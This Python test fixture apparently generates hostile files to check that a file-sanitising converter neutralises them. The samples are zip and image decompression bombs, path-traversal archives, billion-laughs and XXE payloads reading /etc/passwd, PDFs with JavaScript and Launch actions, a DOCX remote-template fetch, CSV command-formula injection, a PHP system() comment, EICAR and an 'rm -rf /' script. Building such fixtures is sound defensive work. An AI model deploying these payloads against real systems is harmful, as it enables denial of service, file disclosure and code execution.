"""Files that mean harm, made here: each with what they are and how it must end.

``Outcome.COPY``: a harmless copy comes out. Any other word is the ``why`` of its answer, or
None where the content is of no kind that we know.
"""

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final, NamedTuple

import pikepdf
from PIL import Image

SECRET: Final = "rahasia-0451"
EICAR: Final = (
    rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
)
COPY: Final = "copy"


class Hostile(NamedTuple):
    """``ends``: which ends are right. ``gone``: what must not stand in a copy."""

    make: Callable[[], bytes]
    ends: frozenset[str | None]
    gone: tuple[bytes, ...] = ()


def ends(*which: str | None) -> frozenset[str | None]:
    return frozenset(which)


def jpeg(size: tuple[int, int] = (64, 48), **more: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, "JPEG", **more)
    return out.getvalue()


def png(width: int, height: int, *, rows: int = 0) -> bytes:
    """A PNG that says how large it is and holds as much as is asked for."""

    def chunk(name: bytes, data: bytes) -> bytes:
        check = zlib.crc32(name + data)
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\0" + bytes((width + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(rows)) + packer.flush()
    start = b"\x89PNG\r\n\x1a\n"
    return start + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def huge_jpeg() -> bytes:
    """A JPEG that says it is 65535 x 65535."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65535, 65535)
    return bytes(data)


def gif_bomb() -> bytes:
    """A GIF of a few bytes that says it is 65535 x 65535."""
    head = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\0\0\0\0\0\xff\xff\xff"
    image = b"," + struct.pack("<HHHH", 0, 0, 65535, 65535) + b"\0\x02\x02\x44\x01\0;"
    return head + image


def tiff_of_pages(pages: int = 40_000) -> bytes:
    """A TIFF of so many pages, each of one white point."""
    fields = {256: 1, 257: 1, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: 1, 279: 1}
    told = b"".join(struct.pack("<HHII", one, 4, 1, n) for one, n in fields.items())
    page = struct.pack("<H", len(fields)) + told
    out = [b"II*\0" + struct.pack("<I", 10) + b"\xff\xff"]
    for number in range(1, pages + 1):
        follows = 10 + number * (len(page) + 4) if number < pages else 0
        out.append(page + struct.pack("<I", follows))
    return b"".join(out)


def zipped(parts: Mapping[str, bytes], form: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", form) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def nested_zip() -> bytes:
    """A ZIP of ZIPs of zeros: five gigabytes, were it unpacked."""
    inner = zipped({"0.bin": bytes(10 << 20)})
    middle = zipped({f"{n}.zip": inner for n in range(16)})
    return zipped({f"{n}.zip": middle for n in range(32)})


def lying_zip() -> bytes:
    """A document whose part says that it is ten bytes long and is thirty megabytes."""
    data = bytearray(zipped({"word/document.xml": b"<w/>" + b" " * (30 << 20)}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.index(mark) + at
        data[place : place + 4] = struct.pack("<I", 10)
    return bytes(data)


WORD: Final = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_W: Final = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES: Final = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def docx(body: str, more: Mapping[str, bytes] | None = None) -> bytes:
    words = f"<w:document {_W}><w:body>{body}</w:body></w:document>"
    parts = {"[Content_Types].xml": TYPES.encode(), "word/document.xml": words.encode()}
    return zipped({**parts, **(more or {})})


def bad_docx(document: bytes) -> bytes:
    return zipped(
        {"[Content_Types].xml": TYPES.encode(), "word/document.xml": document}
    )


LAUGHS: Final = (
    b'<!DOCTYPE l [<!ENTITY a "haha">'
    + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    + b"]><l>&j;</l>"
)
OUTSIDE: Final = b'<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'


def pdf(
    change: Callable[[pikepdf.Pdf], None] = lambda _: None,
    encryption: pikepdf.Encryption | None = None,
) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        made.save(out, encryption=encryption)
    return out.getvalue()


def _program(made: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.alert('{SECRET}')")
    )
    made.Root.OpenAction = act
    made.Root.AA = pikepdf.Dictionary(WC=act)
    made.pages[0].obj.AA = pikepdf.Dictionary(O=act)
    mark = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(SECRET)),
    )
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(mark)])


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["../../isi.exe"] = f"MZ {SECRET}".encode()


def _round(made: pikepdf.Pdf) -> None:
    """Let a page be its own parent's parent."""
    made.Root.Pages.Kids.append(made.Root.Pages)


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        entry = tarfile.TarInfo("../../../etc/cron.d/x")
        entry.size = 4
        archive.addfile(entry, io.BytesIO(b"isi\n"))
    return out.getvalue()


def polyglot() -> bytes:
    """A JPEG that is a ZIP too, and a page."""
    page = f"<html><script>alert('{SECRET}')</script>".encode()
    return jpeg() + page + zipped({"isi.html": page})


FILES: Final[Mapping[str, Hostile]] = {
    "a zip of zips of zeros": Hostile(nested_zip, ends("archive")),
    "a document that lies about its size": Hostile(lying_zip, ends("broken", "large")),
    "a document that unpacks to much": Hostile(
        lambda: docx(
            "x" * 10,
            {f"word/styles{n}.xml": b"<a/>" + b" " * (40 << 20) for n in range(7)},
        ),
        ends("large", "broken"),
    ),
    "a zip with a path": Hostile(
        lambda: zipped({"../../etc/passwd": b"x", "C:\\isi": b"x"}), ends("archive")
    ),
    "a zip with names that turn": Hostile(
        lambda: zipped({"foto\u202egnp.exe": b"MZ", "a\x00b\n\x1b[2J": b""}),
        ends("archive"),
    ),
    "a zip of nothing": Hostile(lambda: zipped({}), ends("archive")),
    "a zip cut off": Hostile(lambda: zipped({"a": b"b" * 999})[:60], ends("broken")),
    "a tar that climbs": Hostile(tar, ends(None)),
    "a picture of 65535 x 65535": Hostile(huge_jpeg, ends("large", "broken")),
    "a picture of 30000 x 30000": Hostile(
        lambda: png(30000, 30000, rows=30000), ends("large")
    ),
    "a picture of 65535 x 65535 in PNG": Hostile(
        lambda: png(65535, 65535), ends("large")
    ),
    "a GIF of 65535 x 65535": Hostile(gif_bomb, ends("large", "broken")),
    "a TIFF of 40,000 pages": Hostile(tiff_of_pages, ends(COPY)),
    "a picture of no size": Hostile(lambda: png(0, 0), ends("broken")),
    "a picture cut off": Hostile(lambda: jpeg((640, 480))[:900], ends("broken")),
    "a picture with a page behind it": Hostile(
        polyglot, ends(COPY), (b"<script", b"PK\x03\x04")
    ),
    "a picture with a program in its remark": Hostile(
        lambda: jpeg(comment=f"<?php system('{SECRET}') ?>".encode()),
        ends(COPY),
        (b"<?php", SECRET.encode()),
    ),
    "an SVG with a program": Hostile(
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ends(None),
    ),
    "an SVG that opens a file": Hostile(lambda: OUTSIDE, ends(None)),
    "a page that says it is a picture": Hostile(
        lambda: b"<html><script>alert(1)</script></html>", ends(None)
    ),
    "XML that laughs a billion times": Hostile(
        lambda: bad_docx(LAUGHS), ends("broken")
    ),
    "XML that opens a file": Hostile(lambda: bad_docx(OUTSIDE), ends("broken")),
    "a document with a macro": Hostile(
        lambda: docx("<w:p/>", {"word/vbaProject.bin": SECRET.encode()}),
        ends(COPY),
        (b"vbaProject",),
    ),
    "a document that loads a template": Hostile(
        lambda: docx(
            "<w:p/>",
            {
                "word/_rels/document.xml.rels": (
                    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    b'relationships"><Relationship Id="r1" Type="x/attachedTemplate" '
                    b'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
                )
            },
        ),
        ends(COPY),
        (b"203.0.113.9",),
    ),
    "a PDF with programs": Hostile(
        lambda: pdf(_program), ends(COPY), (b"JavaScript", b"Launch", SECRET.encode())
    ),
    "a PDF with a file in it": Hostile(
        lambda: pdf(_attached), ends(COPY), (b"EmbeddedFile", b"isi.exe")
    ),
    "a PDF that goes in circles": Hostile(lambda: pdf(_round), ends(COPY, "broken")),
    "a PDF cut off": Hostile(lambda: pdf()[:300], ends("broken", COPY)),
    "a PDF with a password": Hostile(
        lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), ends("locked")
    ),
    "a PDF of nothing but its name": Hostile(
        lambda: b"%PDF-1.7\n%%EOF", ends("broken")
    ),
    "formulas in CSV": Hostile(
        lambda: b"=cmd|'/c calc'!A1,+1,-1,@SUM(1)\n", ends(COPY)
    ),
    "the virus of all tests": Hostile(lambda: EICAR, ends(COPY)),
    "words that turn": Hostile(
        "aman \u202e exe.gnp \u2066 \u200b".encode,
        ends(COPY),
        ("\u202e".encode(), "\u200b".encode(), "\u2066".encode()),
    ),
    "a mailbox": Hostile(
        lambda: b"From s@x Mon Nov 30 19:00:01 2026\nX-Originating-IP: [10.0.0.9]\n\n",
        ends("mail"),
    ),
    "words to a terminal": Hostile(lambda: b"aman \x1b[2J\x07", ends(None)),
    "a program": Hostile(lambda: b"\x7fELF\x02\x01\x01" + bytes(500), ends(None)),
    "a program of Windows": Hostile(lambda: b"MZ\x90\0" + bytes(500), ends(None)),
    "a script": Hostile(lambda: b"#!/bin/sh\nrm -rf /\n", ends(COPY)),
    "nothing": Hostile(lambda: b"", ends(None)),
    "one byte": Hostile(lambda: b"\0", ends(None)),
    "zeros": Hostile(lambda: bytes(1 << 20), ends(None)),
    "a playlist that opens a file": Hostile(
        lambda: b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile:///etc/passwd\n",
        ends(COPY),
    ),
    "a sound that is none": Hostile(
        lambda: b"OggS\0" + bytes(200), ends("broken", "no_converter")
    ),
    "a film that is none": Hostile(
        lambda: b"\0\0\0\x18ftypmp42" + bytes(300), ends("broken", "no_converter")
    ),
}
